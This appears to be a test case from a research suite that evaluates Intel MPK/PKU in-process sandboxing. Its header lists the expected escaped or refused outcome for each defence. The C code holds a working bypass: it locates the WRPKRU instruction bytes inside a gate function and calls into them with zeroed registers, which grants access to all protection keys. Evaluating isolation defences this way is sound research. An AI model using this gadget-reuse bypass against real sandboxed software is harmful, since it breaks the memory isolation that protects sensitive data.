/*
{
  "title": "A jump to the WRPKRU of the gate that opens the window: all rights, of all keys, and no window that anybody knows of",
  "precondition": "CR4.PKE = 1",
  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

int main(void) {
  BYPASS_OF_KEYS(const uint64_t place = find((const void *)ushell_enable_write, "\x0f\x01\xef", 3);
                 __asm__ volatile("call *%3" : : "a"(0), "c"(0), "d"(0), "r"(place) : "memory"));
  GOAL_COUNT();
  return 0;
}
